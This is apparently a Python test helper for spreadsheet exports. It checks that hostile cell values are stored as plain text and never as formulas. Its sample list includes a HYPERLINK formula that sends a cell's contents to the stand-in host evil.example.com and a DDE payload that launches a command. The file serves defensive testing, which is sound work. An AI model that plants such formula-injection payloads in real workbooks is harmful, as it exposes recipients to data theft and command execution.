"""Hostile spreadsheet text and the checks that it stayed text in a written workbook."""
import io
import re
import zipfile

from openpyxl import load_workbook

# Each would run, link or be read as a formula if a workbook stored it as one.
HOSTILE = (
    '=HYPERLINK("http://evil.example.com/?d="&C3,"点击")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "#N/A",
)
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def assert_no_formulas(data):
    """No worksheet of the xlsx ``data`` holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = zf.read(name)
            assert not FORMULA_ELEMENT.search(xml), (name, FORMULA_ELEMENT.search(xml))


def cell_texts(data):
    """Every non-empty cell value of every sheet, as openpyxl reads it back, with its type."""
    wb = load_workbook(io.BytesIO(data))
    return [(cell.value, cell.data_type) for ws in wb.worksheets for row in ws.iter_rows()
            for cell in row if cell.value is not None]


def assert_reads_as_typed(data, expected):
    """Each of ``expected`` is in the workbook exactly (a string cell, not a formula)."""
    texts = cell_texts(data)
    values = {value for value, _ in texts}
    for text in expected:
        assert text in values, (text, sorted(map(str, values))[:40])
    for value, data_type in texts:
        if value in expected:
            assert data_type == "s", (value, data_type)


def data_rows(ws):
    """The data rows of a report sheet (row 1 the title, row 2 the header): from row 3 up to the
    blank row that separates them from the 填报单位（盖章） line."""
    rows = []
    for row in ws.iter_rows(min_row=3, values_only=True):
        if all(v is None for v in row):
            break
        rows.append(row)
    return rows
